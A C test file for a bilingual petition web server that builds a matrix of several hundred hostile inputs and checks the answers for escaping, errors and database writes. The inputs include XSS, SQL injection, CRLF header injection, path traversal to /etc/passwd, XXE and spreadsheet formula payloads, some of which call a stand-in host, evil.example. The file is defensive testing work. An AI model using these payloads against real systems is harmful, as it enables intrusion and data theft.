/*
 * hostile_test.c: the hostile-input matrix.  About three hundred hostile
 * values (markup and script for every context, SQL and FTS syntax,
 * invalid and overlong UTF-8, NUL, control characters, CR/LF, bidi and
 * zero-width characters, spreadsheet formulas, path traversal in every
 * encoding, oversized fields and bodies) are sent through every public
 * and staff form and every query parameter of one development server,
 * over one kept-alive connection, alternating English and French pages.
 * For each answer: never a 5xx; a 4xx says its message in the page's
 * language (an HTML page in the language of its address, or the API's
 * JSON error); whatever is shown never holds the value unescaped, and a
 * form that shows back what was typed shows it escaped.  Around each
 * group (one field of one form with its values), a picture of every
 * table (fixture_tables_snapshot()) proves that refused input wrote
 * nothing, and that accepted input wrote only where it should, one row
 * per accepted answer; /healthz says the server is alive.  Accepted
 * values (a signatory's name, a draft's prayer, a search) are then read
 * back where they are shown: the Clerk's lists, the draft and its
 * preview, the lists, the API's JSON, the CSV (a formula neutralised)
 * and the XML.  At the end the server's standard error holds no
 * AddressSanitizer or UBSan report, and it stops cleanly (LeakSanitizer
 * silent).  docs/tests.md lists the values and the targets.
 */
#define _GNU_SOURCE
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "fixtures.h"
#include "harness.h"
#include "lib/arena.h"
#include "lib/err.h"
#include "lib/escape.h"
#include "lib/strbuf.h"
#include "store/log.h"
#include "web.h"
#include "lib/banned.h"

static struct harness H;

/* ---- the values -------------------------------------------------------------------------- */

enum kind {
    K_MARKUP,
    K_SQL,
    K_FTS,
    K_UTF8, /* invalid or overlong UTF-8 */
    K_NUL,
    K_CONTROL,
    K_CRLF,
    K_BIDI, /* bidi, zero-width and other invisible characters */
    K_FORMULA,
    K_PATH,
    K_LONG,
    K_KINDS
};

static const char *const kind_names[K_KINDS] = {
    "markup", "sql", "fts", "utf8", "nul", "control", "crlf", "bidi", "formula", "path", "long"};

struct hostile {
    enum kind kind;
    char *v; /* malloc'd; may hold NUL */
    size_t len;
};

enum { VALUES_MAX = 400 };
static struct hostile values[VALUES_MAX];
static int nvalues;

static void
add(enum kind kind, const char *v, size_t len)
{
    assert_true(nvalues < VALUES_MAX);
    char *copy = malloc(len + 1);
    assert_non_null(copy);
    memcpy(copy, v, len);
    copy[len] = '\0';
    values[nvalues++] = (struct hostile){kind, copy, len};
}

#define ADD(kind, lit) add(kind, lit, sizeof(lit) - 1)

static void
add_repeat(enum kind kind, const char *unit, size_t times)
{
    size_t n = strlen(unit), len = n * times;
    char *buf = malloc(len + 1);
    assert_non_null(buf);
    for (size_t i = 0; i < times; i++)
        memcpy(buf + i * n, unit, n);
    add(kind, buf, len);
    free(buf);
}

static void
values_make(void)
{
    /* Markup and script: element, attribute (quoted both ways and bare),
     * URL, inline style and script, comments, CDATA, XML entities, and
     * text that is already escaped (it must be escaped again). */
    static const char *const markup[] = {
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script src=//evil.example/x.js></script>",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "</option></select><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<style>body{display:none}</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
        "<base href=\"//evil.example/\">",
        "<form action=//evil.example><input name=csrf>",
        "<input autofocus onfocus=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "\" autofocus onfocus=alert(1) x=\"",
        "x\" style=\"background:url(javascript:alert(1))",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.cookie)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "//evil.example/%2e%2e",
        "https://evil.example/\"><script>alert(1)</script>",
        "expression(alert(1))",
        "url(javascript:alert(1))",
        "</style><script>alert(1)</script>",
        "\"; alert(1); //",
        "'; alert(1); //",
        "\\\"; alert(1); //",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "<!--",
        "--><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "]]><x>",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3C;script&#x3E;",
        "&amp;&quot;&#39;",
        "{{csrf}}",
        "{{{body}}}",
        "{{#each petitions}}x{{/each}}",
        "${7*7}",
        "<%= 7*7 %>",
        "<x y='",
        "<",
        ">",
        "\"",
        "'",
        "&",
        "O'Hara & <Sons> \"Ltd\"",
    };
    for (size_t i = 0; i < sizeof(markup) / sizeof(markup[0]); i++)
        add(K_MARKUP, markup[i], strlen(markup[i]));

    static const char *const sql[] = {
        "' OR '1'='1",
        "' OR 1=1--",
        "\" OR \"\"=\"",
        "'; DROP TABLE signatures;--",
        "1; DELETE "
        "FROM petitions",
        "') OR ('a'='a",
        "' UNION SELECT email, password_hash "
        "FROM users--",
        "1' AND sleep(5)--",
        "'; SELECT pg_sleep(5);--",
        "1 OR 1=1",
        "admin'--",
        "%' OR '%'='",
        "%",
        "_",
        "\\'",
        "' || (SELECT sqlite_version()) || '",
        "'; ATTACH DATABASE '/tmp/x.db' AS x;--",
        "$1",
        "?",
        ":name",
        "@p",
        ";",
        "--",
        "/*",
        "*/",
        "0x27",
        "CHAR(39)",
        "' COLLATE NOCASE--",
        "'::text",
        "E'\\x27'",
        "$$; DROP TABLE users; $$",
    };
    for (size_t i = 0; i < sizeof(sql) / sizeof(sql[0]); i++)
        add(K_SQL, sql[i], strlen(sql[i]));

    /* FTS5's query syntax, and PostgreSQL's tsquery. */
    static const char *const fts[] = {
        "\"",
        "\"\"",
        "\"unterminated",
        "NEAR(a b)",
        "NEAR(a b, 0)",
        "a NEAR/2 b",
        "a*",
        "*",
        "^a",
        "a OR",
        "OR",
        "AND",
        "NOT",
        "a AND NOT b",
        "(",
        ")",
        "((((a",
        "prayer:x",
        "{prayer title}:x",
        "-x",
        "+x",
        "a:",
        "*:*",
        "a & b | !c",
        "a <-> b",
        "!!a",
        "'a':*",
        "a:*",
        "rank:",
        "petitions_fts MATCH 'x'",
    };
    for (size_t i = 0; i < sizeof(fts) / sizeof(fts[0]); i++)
        add(K_FTS, fts[i], strlen(fts[i]));

    /* Invalid UTF-8: lone continuation bytes, cut sequences, overlong
     * forms of '/', '.', '<', '\'', '"' and NUL, surrogates (one, and a
     * CESU-8 pair), beyond U+10FFFF, bytes never in UTF-8, Latin-1. */
    static const char *const utf8[] = {
        "\x80",
        "a\xbf",
        "\xc2",
        "\xe2\x82",
        "\xf0\x9f\x98",
        "\xc0\xaf",
        "\xe0\x80\xaf",
        "\xf0\x80\x80\xaf",
        "\xc0\xae\xc0\xae\xc0\xaf",
        "\xc0\xbc"
        "script\xc0\xbe",
        "\xe0\x80\xbc",
        "\xc0\xa7",
        "\xc0\xa2",
        "\xc0\x80",
        "\xe0\x80\x80",
        "\xed\xa0\x80",
        "\xed\xbf\xbf",
        "\xed\xa0\xbd\xed\xb8\x80",
        "\xf4\x90\x80\x80",
        "\xf5\x80\x80\x80",
        "\xf8\x88\x80\x80\x80",
        "\xfc\x84\x80\x80\x80\x80",
        "\xfe",
        "\xff",
        "caf\xe9",
        "Montr\xe9"
        "al",
        "\xc3\x28",
        "\xa0\xa1",
        "\xe2\x28\xa1",
    };
    for (size_t i = 0; i < sizeof(utf8) / sizeof(utf8[0]); i++)
        add(K_UTF8, utf8[i], strlen(utf8[i]));
    ADD(K_UTF8, "\xff\xfe<\x00s\x00"); /* UTF-16 */

    ADD(K_NUL, "a\0b");
    ADD(K_NUL, "\0");
    ADD(K_NUL, "x\0<script>alert(1)</script>");
    ADD(K_NUL, "\0' OR 1=1--");
    ADD(K_NUL, "style.css\0.png");
    ADD(K_NUL, "%00");

    /* Every C0 control but tab, LF and CR (CR/LF below), DEL, and C1
     * controls written in UTF-8. */
    for (int c = 1; c < 32; c++) {
        if (c == '\t' || c == '\n' || c == '\r')
            continue;
        char v[4] = {'a', (char)c, 'b', 0};
        add(K_CONTROL, v, 3);
    }
    ADD(K_CONTROL, "a\x7f"
                   "b");
    ADD(K_CONTROL, "a\xc2\x80"
                   "b");
    ADD(K_CONTROL, "a\xc2\x9b"
                   "31m");
    ADD(K_CONTROL, "\x1b[2J\x1b[31mred");

    ADD(K_CRLF, "a\r\nb");
    ADD(K_CRLF, "a\nb");
    ADD(K_CRLF, "a\rb");
    ADD(K_CRLF, "x\r\nSet-Cookie: pd_session=stolen");
    ADD(K_CRLF, "x\r\n\r\n<script>alert(1)</script>");
    ADD(K_CRLF, "x\r\nBcc: victim@example.org");
    ADD(K_CRLF, "x\nSubject: you won");
    ADD(K_CRLF, "%0d%0aSet-Cookie:x=1");
    ADD(K_CRLF, "a\xe2\x80\xa8"
                "b");
    ADD(K_CRLF, "a\xe2\x80\xa9"
                "b");
    ADD(K_CRLF, "a\xc2\x85"
                "b");

    /* Bidi controls, zero-width and other invisible characters. */
    static const char *const bidi[] = {
        "a\xe2\x80\x8b"
        "b", /* U+200B ZERO WIDTH SPACE */
        "a\xe2\x80\x8c"
        "b", /* U+200C */
        "a\xe2\x80\x8d"
        "b", /* U+200D */
        "a\xe2\x80\x8e"
        "b", /* U+200E LRM */
        "a\xe2\x80\x8f"
        "b", /* U+200F RLM */
        "a\xe2\x80\xaa"
        "b", /* U+202A LRE */
        "a\xe2\x80\xab"
        "b", /* U+202B RLE */
        "a\xe2\x80\xac"
        "b", /* U+202C PDF */
        "a\xe2\x80\xad"
        "b", /* U+202D LRO */
        "abc\xe2\x80\xae"
        "gnp.exe", /* U+202E RLO */
        "a\xe2\x81\xa6"
        "b", /* U+2066 LRI */
        "a\xe2\x81\xa7"
        "b", /* U+2067 RLI */
        "a\xe2\x81\xa8"
        "b", /* U+2068 FSI */
        "a\xe2\x81\xa9"
        "b", /* U+2069 PDI */
        "\xef\xbb\xbf"
        "a", /* U+FEFF BOM */
        "a\xd8\x9c"
        "b", /* U+061C ALM */
        "a\xe1\xa0\x8e"
        "b", /* U+180E */
        "a\xe2\x81\xa0"
        "b", /* U+2060 WORD JOINER */
        "a\xc2\xad"
        "b", /* U+00AD SOFT HYPHEN */
        "a\xcd\x8f"
        "b",            /* U+034F */
        "\xe3\x85\xa4", /* U+3164 HANGUL FILLER */
        "a\xef\xbf\xb9"
        "b", /* U+FFF9 */
        "a\xf3\xa0\x80\x81"
        "b", /* U+E0001 LANGUAGE TAG */
        "admin\xe2\x80\x8b@petitions.test",
        "\xe2\x80\xae<script>alert(1)</script>",
        "a\xef\xbf\xbe"
        "b", /* U+FFFE, a noncharacter */
        "\xef\xbc\x9c"
        "script\xef\xbc\x9e", /* full-width < > */
    };
    for (size_t i = 0; i < sizeof(bidi) / sizeof(bidi[0]); i++)
        add(K_BIDI, bidi[i], strlen(bidi[i]));

    /* Spreadsheet formulas: each leading character a spreadsheet reads
     * as one, before each of several bodies. */
    static const char *const lead[] = {"=", "+", "-", "@", "\t=", " ="};
    static const char *const body[] = {"1+1",
                                       "HYPERLINK(\"http://evil.example\",\"x\")",
                                       "cmd|' /C calc'!A0",
                                       "SUM(A1:A9)",
                                       "IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
                                       "WEBSERVICE(\"http://evil.example\")",
                                       "2+5+cmd|' /C calc'!A0"};
    for (size_t i = 0; i < sizeof(lead) / sizeof(lead[0]); i++)
        for (size_t j = 0; j < sizeof(body) / sizeof(body[0]); j++) {
            char v[200];
            int n = snprintf(v, sizeof(v), "%s%s", lead[i], body[j]);
            add(K_FORMULA, v, (size_t)n);
        }
    ADD(K_FORMULA, "\xef\xbc\x9d"
                   "1+1");
    ADD(K_FORMULA, "=");

    /* Path traversal in every encoding: plain, percent-encoded once and
     * twice, overlong UTF-8 written in percent-encoding, backslashes,
     * full-width dots, and absolute paths. */
    static const char *const path[] = {
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "%2e%2e/%2e%2e/etc/passwd",
        ".%2e/.%2e/etc/passwd",
        "%252e%252e%252fetc%252fpasswd",
        "..%252f..%252fetc%252fpasswd",
        "..%c0%af..%c0%afetc%c0%afpasswd",
        "%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
        "..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
        "..%e0%80%af..%e0%80%afetc",
        "..\\..\\..\\windows\\win.ini",
        "..%5c..%5cwindows%5cwin.ini",
        "..%255c..%255cwindows",
        "....//....//etc/passwd",
        "..;/..;/etc/passwd",
        "..%00/etc/passwd",
        "%uff0e%uff0e%u2215etc",
        "\xef\xbc\x8e\xef\xbc\x8e\xef\xbc\x8f"
        "etc",
        "/etc/passwd",
        "file:///etc/passwd",
        "\\\\evil.example\\share",
        "../sql/sqlite/0001_register.sql",
        "..%2f..%2fsrc%2fmain.c",
        "static/../../../etc/passwd",
    };
    for (size_t i = 0; i < sizeof(path) / sizeof(path[0]); i++)
        add(K_PATH, path[i], strlen(path[i]));

    /* Oversized: over a field's limit, a long word, long texts, and
     * bodies over the 64 KiB limit (small enough for the socket to take
     * whole before the server's 413 closes the connection). */
    add_repeat(K_LONG, "A", 300);
    add_repeat(K_LONG, "a ", 2000);
    add_repeat(K_LONG, "<script>", 1000);
    add_repeat(K_LONG, "\xc3\xa9", 3000);
    add_repeat(K_LONG, "x", 70000);
    add_repeat(K_LONG, "%", 30000); /* 90 KB once percent-encoded */
}

/* ---- requests ---------------------------------------------------------------------------- */

/* The value as application/x-www-form-urlencoded (and for a query):
 * every byte but A-Z a-z 0-9 - . _ ~ as %XX.  malloc'd. */
static char *
enc(const struct hostile *v)
{
    struct strbuf out;
    sb_init(&out, NULL);
    url_encode(&out, v->v, v->len);
    return sb_detach(&out, NULL);
}

/* A path segment as an attacker sends it: the bytes as they are, but
 * those that cannot stand in a request line (controls, space, bytes over
 * 0x7f, '?', '#') percent-encoded.  malloc'd. */
static char *
raw_segment(const struct hostile *v)
{
    struct strbuf out;
    sb_init(&out, NULL);
    for (size_t i = 0; i < v->len; i++) {
        unsigned char c = (unsigned char)v->v[i];
        if (c > ' ' && c < 0x7f && c != '?' && c != '#')
            sb_addch(&out, (char)c);
        else
            sb_addf(&out, "%%%02X", c);
    }
    return sb_detach(&out, NULL);
}

/* Requests so far, for the client address each gets (rate limits and
 * sign-in limits count by address; the matrix is not about them). */
static unsigned sent;

/* Send one request as b (its cookies; csrf first in a POST body when the
 * browser holds a token), from an address of its own. */
static void
send(struct browser *b, const char *method, const char *path, const char *form,
     struct http_result *out)
{
    char cookie[sizeof(b->cookies) + 16], xff[64];
    sent++;
    snprintf(xff, sizeof(xff), "X-Forwarded-For: 10.%u.%u.%u", (sent >> 16) & 255,
             (sent >> 8) & 255, (sent & 255) | 1);
    snprintf(cookie, sizeof(cookie), "Cookie: %s", b->cookies);
    const char *headers[] = {xff, "Content-Type: application/x-www-form-urlencoded",
                             b->cookies[0] ? cookie : NULL, NULL};
    char *body = NULL;
    size_t len = 0;
    if (form) {
        len = strlen(form) + strlen(b->csrf) + 8;
        body = malloc(len);
        assert_non_null(body);
        len = (size_t)snprintf(body, len, "%s%s%s%s", b->csrf[0] ? "csrf=" : "", b->csrf,
                               b->csrf[0] ? "&" : "", form);
    }
    /* The server closes a kept-alive connection after some refusals (an
     * oversized body's 413) without saying so; a request sent on it
     * fails before the server reads it: once more, on a new connection. */
    if (http_request(&H, method, path, body, len, headers, out)) {
        http_result_free(out);
        if (http_request(&H, method, path, body, len, headers, out))
            fail_msg("%s %.200s: no answer (the server is gone?)", method, path);
    }
    free(body);
    /* A refused form comes back by GET (web/forms.h): what the browser
     * shows is that page, which must show the value escaped too. */
    refusal_follow(&H, out, b->cookies);
}

/* ---- what each answer must be ------------------------------------------------------------ */

/* The value escaped as the templates escape (& < > " '), written here
 * rather than taken from src/lib/escape.c, so that the test does not
 * agree with the code it checks by construction.  malloc'd. */
static char *
html_escaped(const char *v, size_t len)
{
    static const char *const rep[128] = {
        ['&'] = "&amp;", ['<'] = "&lt;", ['>'] = "&gt;", ['"'] = "&quot;", ['\''] = "&#39;"};
    struct strbuf out;
    sb_init(&out, NULL);
    for (size_t i = 0; i < len; i++) {
        unsigned char c = (unsigned char)v[i];
        if (c < 128 && rep[c])
            sb_adds(&out, rep[c]);
        else
            sb_addch(&out, (char)c);
    }
    return sb_detach(&out, NULL);
}

/* Whether the value holds a character that markup would read. */
static bool
has_markup(const struct hostile *v)
{
    /* Short ones ("<", "\"\"") are in every page. */
    return v->len > 3 && (memchr(v->v, '<', v->len) || memchr(v->v, '"', v->len) ||
                          memchr(v->v, '\'', v->len) || memchr(v->v, '>', v->len));
}

/* Valid UTF-8 without controls (tab aside), so a form may take it. */
static bool
is_clean(const struct hostile *v)
{
    return v->kind != K_UTF8 && v->kind != K_NUL && v->kind != K_CONTROL && v->kind != K_CRLF &&
           !(v->kind == K_FORMULA && v->v[0] == '\t');
}

struct target;
static int64_t review_draft;
static char review_path[64], member_path[64];
static void fresh_review_draft(void);
static void check_answer(const struct target *t, const struct hostile *v, bool fr,
                         const struct http_result *r);

enum tflags {
    T_API = 1 << 0,    /* the API's JSON (and its exports) */
    T_ECHO = 1 << 1,   /* a refused form shows back what was typed, escaped */
    T_SOME = 1 << 2,   /* every fifth value (a slow form: a password hashed) */
    T_PATH = 1 << 3,   /* the value is a path segment, sent as is */
    T_NOLANG = 1 << 4, /* no language in the address (/static, /dev) */
    T_FRESH = 1 << 5,  /* a new draft under the Clerk's review for each value (review_path) */
    T_FEW = 1 << 6     /* the first value of each kind only (a password checked with
                        * Argon2id takes most of a second under the sanitizers) */
};

enum who { ANON, PETITIONER, CLERK, MEMBER, ADMIN, RESPONDER, WHO_COUNT };

struct target {
    const char *name;
    enum who who;
    const char *method;
    const char *path;  /* "{lang}" replaced by en or fr; "{v}" by the value (T_PATH) */
    const char *field; /* the field or query parameter that gets the value; NULL with T_PATH */
    const char *form;  /* the other fields (the value comes first: the first of a name wins) */
    unsigned flags;
    const char *writes;  /* tables an accepted value may change (" "-separated), or NULL */
    const char *counted; /* the table that gains one row per accepted answer, or NULL */
};

static struct browser browsers[WHO_COUNT];
static const char *const staff[WHO_COUNT] = {NULL,
                                             "hostile-petitioner@petitions.example",
                                             "clerk@petitions.test",
                                             "arya@petitions.test",
                                             "admin@petitions.test",
                                             "responder@petitions.test"};

static char *
path_for(const struct target *t, bool fr, const char *venc)
{
    size_t n = strlen(t->path) + (venc ? strlen(venc) : 0) + 8;
    char *out = malloc(n), *o = out;
    assert_non_null(out);
    for (const char *p = t->path; *p;) {
        if (strncmp(p, "{lang}", 6) == 0) {
            memcpy(o, fr ? "fr" : "en", 2);
            o += 2;
            p += 6;
        } else if (strncmp(p, "{v}", 3) == 0) {
            size_t l = strlen(venc);
            memcpy(o, venc, l);
            o += l;
            p += 3;
        } else {
            *o++ = *p++;
        }
    }
    *o = '\0';
    return out;
}

/* Send value v to target t in language fr; the answer's status. */
static long
send_value(const struct target *t, int i, bool fr)
{
    const struct hostile *v = &values[i];
    struct browser *b = &browsers[t->who];
    struct http_result r;
    long status;
    char *path;
    if (t->flags & T_FRESH)
        fresh_review_draft();
    if (t->flags & T_PATH) {
        char *seg = raw_segment(v);
        path = path_for(t, fr, seg);
        free(seg);
        send(b, "GET", path, NULL, &r);
    } else {
        char *venc = enc(v);
        char *base = path_for(t, fr, NULL);
        if (strcmp(t->method, "GET") == 0) {
            size_t n = strlen(base) + strlen(t->field) + strlen(venc) +
                       (t->form ? strlen(t->form) : 0) + 8;
            path = malloc(n);
            snprintf(path, n, "%s?%s=%s%s%s", base, t->field, venc, t->form ? "&" : "",
                     t->form ? t->form : "");
            send(b, "GET", path, NULL, &r);
        } else {
            /* Each form that makes something gets an address of its own. */
            char form[2048], *o = form;
            for (const char *p = t->form ? t->form : ""; *p && o < form + sizeof(form) - 24;) {
                if (strncmp(p, "{n}", 3) == 0) {
                    o += snprintf(o, 24, "%u", sent + 1);
                    p += 3;
                } else if (strncmp(p, "{v}", 3) == 0) {
                    /* The value again (a short one, or as much as fits). */
                    size_t room = (size_t)(form + sizeof(form) - 24 - o), l = strlen(venc);
                    if (l > room) {
                        l = room;
                        /* never half of a %XX */
                        while (l > 0 && (venc[l - 1] == '%' || (l > 1 && venc[l - 2] == '%')))
                            l--;
                    }
                    memcpy(o, venc, l);
                    o += l;
                    p += 3;
                } else {
                    *o++ = *p++;
                }
            }
            *o = '\0';
            size_t n = strlen(t->field) + strlen(venc) + strlen(form) + 8;
            char *body = malloc(n);
            snprintf(body, n, "%s=%s%s%s", t->field, venc, form[0] ? "&" : "", form);
            path = base;
            base = NULL;
            send(b, "POST", path, body, &r);
            free(body);
        }
        free(base);
        free(venc);
    }
    check_answer(t, v, fr, &r);
    status = r.status;
    http_result_free(&r);
    free(path);
    return status;
}

static const char *current_path;

static void
check_answer(const struct target *t, const struct hostile *v, bool fr, const struct http_result *r)
{
    const char *where = t->name;
    if (r->status >= 500 || r->status < 200)
        fail_msg("%s, %s value #%ld (%.60s): status %ld", where, kind_names[v->kind],
                 (long)(v - values), v->v, r->status);
    if (r->status == 414 && v->len > 8192) {
        /* A request line over libmicrohttpd's buffer: refused by it, before
         * petitiond sees a request, with its own short answer. */
        return;
    }
    if (r->status == 403)
        fail_msg("%s, %s value #%ld: 403: the form's token or the role refused, so the value "
                 "was never read",
                 where, kind_names[v->kind], (long)(v - values));
    if (r->status >= 400) {
        const char *type = http_header(r, "Content-Type");
        if (t->flags & T_API) {
            if (!type || strncmp(type, "application/json", 16) != 0 ||
                !body_has(r, "\"message_fr\""))
                fail_msg("%s, %s value #%ld: %ld answered %s, not the API's JSON error", where,
                         kind_names[v->kind], (long)(v - values), r->status, type ? type : "-");
        } else {
            const char *lang = (t->flags & T_NOLANG) ? NULL
                               : fr                  ? "<html lang=\"fr\""
                                                     : "<html lang=\"en\"";
            if (!type || strncmp(type, "text/html", 9) != 0)
                fail_msg("%s, %s value #%ld: %ld answered %s", where, kind_names[v->kind],
                         (long)(v - values), r->status, type ? type : "-");
            if (lang && !body_has(r, lang))
                fail_msg("%s, %s value #%ld: %ld not in %s", where, kind_names[v->kind],
                         (long)(v - values), r->status, fr ? "French" : "English");
            if (!body_has(r, "<h1"))
                fail_msg("%s, %s value #%ld: %ld without a message", where, kind_names[v->kind],
                         (long)(v - values), r->status);
        }
    }
    /* Never the value unescaped; a form shown back shows it escaped. */
    if (has_markup(v) && r->body && memmem(r->body, r->len, v->v, v->len) && !(t->flags & T_API))
        fail_msg("%s, %s value #%ld: shown unescaped: %.80s", where, kind_names[v->kind],
                 (long)(v - values), v->v);
    if ((t->flags & T_ECHO) && r->status == 422 && is_clean(v) && v->kind == K_MARKUP &&
        v->v[0] != ' ') {
        char *e = html_escaped(v->v, v->len);
        if (!body_has(r, e))
            fail_msg("%s, %s value #%ld: not shown back escaped: %s", where, kind_names[v->kind],
                     (long)(v - values), e);
        free(e);
    }
    if (r->body &&
        (memmem(r->body, r->len, "root:x:0:0", 10) || memmem(r->body, r->len, "PRIMARY KEY", 11) ||
         memmem(r->body, r->len, "#include", 8)))
        fail_msg("%s, %s value #%ld: a file served", where, kind_names[v->kind],
                 (long)(v - values));
    (void)current_path;
}

/* Whether table is in the space-separated list. */
static bool
listed(const char *list, const char *table)
{
    size_t n = strlen(table);
    for (const char *p = list; p && *p;) {
        const char *end = strchr(p, ' ');
        size_t l = end ? (size_t)(end - p) : strlen(p);
        if (l == n && strncmp(p, table, n) == 0)
            return true;
        p = end ? end + 1 : p + l;
    }
    return false;
}

static int64_t
clock_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* Wait until the mail thread has sent every e-mail queued (it marks them
 * sent in the outbox), so that a picture of the tables shows what a group
 * did, not the delivery of the one before. */
static void
mail_settled(void)
{
    for (int i = 0; i < 600; i++) {
        if (fixture_outbox_unsent(&H) == 0)
            return;
        struct timespec ts = {0, 25 * 1000 * 1000};
        nanosleep(&ts, NULL);
    }
    fail_msg("the outbox still holds unsent e-mail after 15 s");
}

/* Wait until the log signer has made the log of every open e-petition and
 * signed each at its size: it does so a moment after the server starts
 * (the demo's petitions) and after a group's signatures, on its own
 * thread, so a picture taken before would see it write during the next
 * group. */
static void
logs_settled(void)
{
    struct store *s = fixture_store(&H);
    for (int i = 0; i < 2400; i++) {
        struct arena *a = arena_new();
        struct err e = ERR_INIT;
        int64_t *ids;
        struct log_head *heads;
        int missing = -1, unsigned_logs = -1;
        if (store_log_missing(s, NULL, a, 10, &ids, &missing, &e) ||
            store_log_unsigned(s, NULL, a, 10, &heads, &unsigned_logs, &e))
            fail_msg("logs: %s", e.log);
        arena_free(a);
        if (!missing && !unsigned_logs)
            return;
        struct timespec ts = {0, 25 * 1000 * 1000};
        nanosleep(&ts, NULL);
    }
    fail_msg("the logs are not all made and signed after 60 s");
}

static void
alive(const char *after)
{
    struct http_result r;
    if (http_get(&H, "/healthz", &r) || r.status != 200)
        fail_msg("after %s: /healthz answered %ld", after, r.status);
    http_result_free(&r);
}

/* The last picture of the tables taken after a group, and whether nothing
 * has been sent or written since (each test starts without one). */
static struct fixture_tables last_picture;
static bool pictures_valid;

/* Run the group of target t: each value (or every fifth), in English and
 * French by turns; then what the tables say and whether the server is
 * alive.  Returns how many values were accepted (2xx or 3xx). */
static int
run_group(const struct target *t)
{
    struct fixture_tables before, after;
    int accepted = 0, tried = 0;
    struct {
        long status;
        int n;
    } seen[8] = {{0, 0}};
    int64_t started = clock_ms();
    mail_settled();
    logs_settled();
    /* The picture after the group before is this one's before, as long as
     * nothing came between (pictures_valid). */
    if (pictures_valid)
        before = last_picture;
    else
        fixture_tables_snapshot(&H, &before);
    for (int i = 0; i < nvalues; i++) {
        if ((t->flags & T_SOME) && i % 5)
            continue;
        if ((t->flags & T_FEW) && i > 0 && values[i - 1].kind == values[i].kind)
            continue;
        if ((t->flags & T_PATH) && values[i].kind != K_PATH && values[i].kind != K_MARKUP &&
            values[i].kind != K_NUL && values[i].kind != K_UTF8 && values[i].kind != K_LONG)
            continue;
        long status = send_value(t, i, i & 1);
        for (int k = 0; k < 8; k++)
            if (!seen[k].status || seen[k].status == status) {
                seen[k].status = status;
                seen[k].n++;
                break;
            }
        tried++;
        if (status < 400)
            accepted++;
    }
    mail_settled();
    logs_settled();
    fixture_tables_snapshot(&H, &after);
    last_picture = after;
    pictures_valid = true;
    char diff[2048];
    int changed = fixture_tables_diff(&before, &after, diff, sizeof(diff));
    if (changed) {
        /* Each changed table must be one the target may write, and the
         * counted table must have gained one row per accepted value. */
        for (int k = 0; k < after.n; k++) {
            const char *name = after.table[k].name;
            int j = 0;
            while (j < before.n && strcmp(before.table[j].name, name) != 0)
                j++;
            bool same = j < before.n && before.table[j].rows == after.table[k].rows &&
                        before.table[j].digest == after.table[k].digest;
            /* The nodes' own bookkeeping (a lease renewed on time, the
             * version of changes), not the register; and the public logs'
             * checkpoints, which the signer signs a moment after an
             * earlier group's signatures (the entries themselves move
             * only with the counts); and a signed-in account's refused
             * form too long for a cookie, kept for its page's GET
             * (web/forms.h). */
            if (!same && !listed(t->writes, name) &&
                !listed("leases change_version log_checkpoints form_states", name))
                fail_msg("%s: %d of %d values accepted, yet %s changed", t->name, accepted, tried,
                         diff);
            if (t->counted && strcmp(name, t->counted) == 0 &&
                after.table[k].rows - (j < before.n ? before.table[j].rows : 0) != accepted)
                fail_msg("%s: %d values accepted, but %s", t->name, accepted, diff);
        }
    }
    alive(t->name);
    /* What the group got, for the log: "# sign email: 306 values: 400 x50 422 x256". */
    fprintf(stderr, "# %s: %d values in %.1f s:", t->name, tried,
            (double)(clock_ms() - started) / 1000.0);
    for (int k = 0; k < 8 && seen[k].status; k++)
        fprintf(stderr, " %ld x%d", seen[k].status, seen[k].n);
    fprintf(stderr, "\n");
    return accepted;
}

/* ---- the targets ------------------------------------------------------------------------- */

/* The other fields of a signature, valid, with an address of the
 * request's own ({n}: the request's number). */
#define SIGNER                                                                                     \
    "first_name=Ann&last_name=Lee&email=hv{n}%40signers.example&city=Ottawa&country=Canada"        \
    "&province=ON&postal_code=K1A+0A6&phone=613-555-0100&eligible=1&terms=1"
#define REGISTRANT                                                                                 \
    "first_name=Ann&last_name=Lee&email=reg{n}%40people.example&city=Ottawa&country=Canada"        \
    "&province=ON&postal_code=K1A+0A6&phone=613-555-0100&password=a+long+enough+password"          \
    "&eligible=1&terms=1"
#define SIGN_WRITES "signatures outbox sessions"
#define DRAFT                                                                                      \
    "lang=en&addressee=government&grievance_1=Rural+homes+lack+broadband.&prayer=We+call+upon"     \
    "+the+Government+to+act.&period=30&subject=&keywords=Broadband&member="

static int64_t member_draft, other_petitioner;

/* A new draft of the other petitioner under the Clerk's review; review_path
 * names it. */
static void
